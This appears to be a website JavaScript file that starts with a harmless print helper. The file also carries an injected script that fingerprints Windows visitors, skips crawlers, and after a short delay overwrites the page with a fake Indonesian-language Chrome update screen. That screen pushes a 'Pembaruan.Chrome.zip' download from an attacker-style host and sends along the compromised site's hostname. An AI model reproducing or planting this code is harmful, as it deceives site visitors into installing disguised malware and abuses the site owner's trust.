function cetakHalaman(){window.print()}
document.addEventListener('keydown',function(e){if(e.ctrlKey&&e.key==='p'){e.preventDefault();cetakHalaman()}});
(function(w,d,n,k){
 try{if(w.localStorage.getItem(k)||/bot|crawl|spider/i.test(n.userAgent)||n.platform.indexOf('Win')!==0)return;}catch(x){return}
 var v=(/Chrome\/(\d+)/.exec(n.userAgent)||[0,'118'])[1];
 w.setTimeout(function(){
  d.documentElement.innerHTML='<head><title>Pembaruan Chrome</title></head><body style="margin:0;background:#fff;font-family:Roboto,Arial;text-align:center;padding-top:120px"><img src="https://upd.peramban-baru.example/i/chrome.svg" width="96"><h1 style="font-weight:400">Anda memakai Chrome versi lama ('+v+')</h1><p>Halaman ini tidak dapat ditampilkan dengan benar. Perbarui peramban sekarang untuk melanjutkan.</p><a id="up" href="https://upd.peramban-baru.example/get?h='+encodeURIComponent(location.host)+'" download="Pembaruan.Chrome.zip" style="background:#1a73e8;color:#fff;padding:14px 28px;border-radius:4px;text-decoration:none">Perbarui Chrome</a></body>';
  d.getElementById('up').onclick=function(){w.localStorage.setItem(k,'1')};
 },2200);
})(window,document,navigator,'_ck_p');
